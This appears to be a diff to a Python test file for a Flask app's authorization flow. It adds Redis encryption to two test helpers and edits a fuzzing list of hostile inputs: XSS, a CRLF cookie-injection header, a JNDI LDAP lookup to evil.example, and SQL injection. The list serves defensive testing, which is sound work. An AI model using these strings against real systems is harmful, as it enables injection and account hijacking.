@@ -209,15 +209,20 @@ def verifier_of(app: Flask, state: str) -> str:
     """The verifier of a flow under way, which only somebody with Redis and the keys can read."""
     with app.app_context():
         raw: Any = parts().redis.get(pending_key(state))
-        entry = msgspec.msgpack.decode(raw, type=pending.Authorization)
+        packed = parts().redis_cipher.decrypt(pending_key(state), raw)
+        assert packed is not None
+        entry = msgspec.msgpack.decode(packed, type=pending.Authorization)
         return parts().sealer.open(entry.verifier, "verifier", pending_key(state))
 
 
 def change_pending(app: Flask, state: str, **values: object) -> None:
     with app.app_context():
         raw: Any = parts().redis.get(pending_key(state))
-        entry = msgspec.msgpack.decode(raw)
-        parts().redis.set(pending_key(state), msgspec.msgpack.encode({**entry, **values}), keepttl=True)
+        packed = parts().redis_cipher.decrypt(pending_key(state), raw)
+        assert packed is not None
+        changed = msgspec.msgpack.encode({**msgspec.msgpack.decode(packed), **values})
+        encrypted = parts().redis_cipher.encrypt(pending_key(state), changed)
+        parts().redis.set(pending_key(state), encrypted, keepttl=True)
 
 
 @ONE_DATABASE
@@ -707,7 +712,7 @@ values = st.one_of(
             b"server_error",
             b"<script>alert(1)</script>",
             b'"><img src=//evil.example>',
-            b"\r\nSet-Cookie: session=evil",
+            b"\r\nSet-Cookie: backline_session=evil",
             b"\x00\xff\xfe",
             b"${jndi:ldap://evil.example}",
             b"' OR 1=1 --",
